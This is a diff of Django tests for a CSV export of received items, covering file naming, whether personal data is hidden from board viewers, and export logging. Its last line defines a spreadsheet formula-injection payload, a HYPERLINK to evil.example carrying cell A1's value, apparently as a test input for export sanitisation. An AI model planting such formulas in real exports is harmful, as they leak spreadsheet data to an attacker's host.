@@ -23,7 +23,7 @@ def test_front_officer_exports_their_commune_with_personal_data_and_it_is_logged
     response = client.get(URL, {"period": "2026-H1", "measure": "received", "export": "csv"})
 
     rows = rows_of(response)
-    assert response["Content-Disposition"].startswith('attachment; filename="items-received-')
+    assert response["Content-Disposition"].startswith('attachment; filename="danh-sach-da-tiep-nhan-')
     assert "Số điện thoại" in rows[0] or "Điện thoại" in rows[0]
     codes = {r[0] for r in rows[1:]}
     assert codes == {figures_world[k].tracking_code for k in ("i1", "i2", "i3", "i4")}
@@ -64,13 +64,17 @@ def test_filters_apply_to_the_export(client, figures_world, province_officer, co
     assert [r[0] for r in rows_of(response)[1:]] == [figures_world["i6"].tracking_code]
 
 
-def test_the_board_sees_no_items_in_a_list(client, figures_world, board_viewer):
+def test_the_board_lists_items_without_personal_data(client, figures_world, board_viewer):
     client.force_login(board_viewer)
 
     response = client.get(URL, {"period": "2026-H1", "export": "csv"})
 
-    assert len(rows_of(response)) == 1  # the header only
-    assert ExportLog.objects.get().rows == 0
+    rows = rows_of(response)
+    assert len(rows) == 1 + 6  # the header and the 6 items received in 2026-H1 (see figures_world)
+    assert "Lò Văn Bình" not in response.content.decode("utf-8-sig")
+    log = ExportLog.objects.get()
+    assert log.rows == 6
+    assert log.with_personal_data is False
 
 
 def test_an_unknown_measure_falls_back_with_a_message(client, figures_world, province_officer):
@@ -98,7 +102,7 @@ def test_list_query_count(client, clock, commune_a, categories, province_officer
     with django_assert_max_num_queries(12):
         response = client.get(reverse("reports-items"), {"period": "2026", "measure": "received"})
 
-    assert response.content.decode().count("<tr><td>DB-26-") == rows
+    assert response.content.decode().count('<tr><td><a href="/can-bo/viec/') == rows
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
